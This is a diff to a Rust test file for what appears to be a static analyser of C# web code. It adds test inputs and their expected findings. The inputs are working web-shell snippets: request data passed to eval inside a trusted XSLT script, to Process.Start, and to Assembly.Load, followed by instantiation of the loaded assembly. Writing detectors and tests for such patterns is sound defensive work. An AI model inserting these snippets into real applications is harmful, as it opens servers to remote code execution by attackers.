@@ -99,6 +99,10 @@ fn code() {
                 "Code XslCompiledTransform.Load Parameter:a Whole",
             ),
             (r#"var x = new XslCompiledTransform(); x.Load(Request["a"]);"#, ""),
+            (
+                r#"var x = new XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml("<s><m:script language='JScript'><![CDATA[function f() { eval(System.Web.HttpContext.Current.Request.Item['a']); }]]></m:script></s>"); x.Load(d, XsltSettings.TrustedXslt, null);"#,
+                "Code XslCompiledTransform.Load = <s><m:script language='JScript'><![CDATA[function f() { eval(System.Web.HttpContext.Current.Request.Item['a']); }]]></m:script></s>; Code eval Parameter:a Whole",
+            ),
             (r#"CSharpScript.EvaluateAsync(Request.Query["a"]);"#, "Code CSharpScript.EvaluateAsync Parameter:a Whole"),
         ],
     );
@@ -296,6 +300,24 @@ fn entries() {
             ),
             (
                 r#"class A : Page { override void OnLoad(EventArgs e) { if (Session["k"] == null) Session["k"] = Request["a"]; Process.Start(Session["k"].ToString()); } }"#,
+                "Command Process.Start Parameter:a Whole",
+            ),
+        ],
+    );
+}
+
+/// A handler of an assembly that comes in the body, in two steps over the session.
+#[test]
+fn two_steps() {
+    check(
+        Language::CSharp,
+        &[
+            (
+                r#"void Page_Load(object s, EventArgs e) { if (Session["p"] == null) Session["p"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { Request.BinaryRead(9) }); else { object o = ((Assembly)Session["p"]).CreateInstance("A"); o.Equals(this); } }"#,
+                "Load Assembly.Load Body: Whole; Invoke Assembly.CreateInstance Body: Whole; Invoke (loaded).equals Body: Whole",
+            ),
+            (
+                r#"class H { void ProcessRequest(System.Web.HttpContext Context) { Process.Start(Context.Request["a"]); } }"#,
                 "Command Process.Start Parameter:a Whole",
             ),
         ],
